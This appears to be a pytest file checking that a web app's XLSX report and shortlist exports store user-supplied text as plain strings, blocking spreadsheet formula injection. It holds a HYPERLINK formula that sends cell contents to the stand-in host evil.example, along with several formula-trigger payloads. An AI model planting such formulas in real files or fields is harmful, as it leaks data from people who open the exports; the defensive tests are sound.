"""No text a user wrote becomes a formula in an XLSX export (OWASP "CSV injection"); numbers and
dates stay numbers and dates, and the text reads as it was written."""
from datetime import date, datetime
from io import BytesIO

from openpyxl import Workbook, load_workbook

from directory.spreadsheets import append_row

from ..linkage.helpers import confirmed_linkage

LEAK = '=HYPERLINK("http://evil.example/leak?v="&I2,"x")'
HOSTILE = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


def read_back(data: bytes):
    return [cell for sheet in load_workbook(BytesIO(data)) for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(cells, expected: list[str]) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # A carriage return reads back as a line feed, or as itself when openpyxl writes with lxml
    # (installed with python-docx): compare both sides with line feeds.
    by_value = {c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value: c for c in cells}
    for value in (v.replace("\r", "\n") for v in expected):
        assert value in by_value, value  # the visible text is kept as it was written
        assert by_value[value].data_type == "s" and by_value[value].quotePrefix


def test_report_export_writes_descriptions_and_names_as_text(client, login, world, db):
    for enterprise, name in ((world["a"], HOSTILE[0]), (world["b"], HOSTILE[1]), (world["outside"], HOSTILE[3])):
        enterprise.short_name = name
    confirmed_linkage(world["manager_b"], world["manager_a"], world["a"], on=date(2025, 3, 10))
    deal = confirmed_linkage(world["buyer"], world["manager_a"], world["a"], on=date(2025, 4, 2))
    deal.description = LEAK
    db.session.commit()
    login(world["admin"])
    for url in ("/reports/all/export.xlsx", f"/reports/committees/{world['committee_a'].code}/export.xlsx"):
        response = client.get(f"{url}?start=2025-01-01&end=2025-12-31")
        assert response.status_code == 200
        cells = read_back(response.data)
        assert_text_not_formula(cells, [LEAK, HOSTILE[0], HOSTILE[3]])
        assert date(2025, 4, 2) in {c.value.date() for c in cells if isinstance(c.value, datetime)}
        assert 100_000_000 in {c.value for c in cells if c.data_type == "n"}


def test_shortlist_export_writes_titles_and_names_as_text(client, login, world, make_offering, db):
    world["b"].legal_name = "@cmd"
    offerings = [make_offering(enterprise=world["b"], title=title) for title in HOSTILE]
    db.session.commit()
    login(world["buyer"])
    response = client.post(f"/linkage/shortlists/add?offering={offerings[0].id}", data={"new_name": "=Vật tư"})
    shortlist_id = int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    for offering in offerings[1:]:
        client.post(f"/linkage/shortlists/add?offering={offering.id}", data={"shortlist": shortlist_id})
    cells = read_back(client.get(f"/linkage/shortlists/{shortlist_id}/export.xlsx").data)
    assert_text_not_formula(cells, [*HOSTILE, "@cmd"])


def test_every_text_is_a_string_cell_and_numbers_and_dates_stay_typed():
    book = Workbook()
    append_row(book.active, [*HOSTILE, LEAK, "plain", 42, 1.5, date(2025, 1, 2), None, "bell\x07"])
    cells = read_back(_saved(book))
    assert_text_not_formula(cells, [*HOSTILE, LEAK])
    assert cells[len(HOSTILE) + 1].value == "plain" and not cells[len(HOSTILE) + 1].quotePrefix
    assert [c.data_type for c in cells[-5:-2]] == ["n", "n", "d"] and cells[-5].value == 42
    assert cells[-1].value == "bell"  # a control character is not valid in XLSX: dropped, not a 500


def _saved(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()
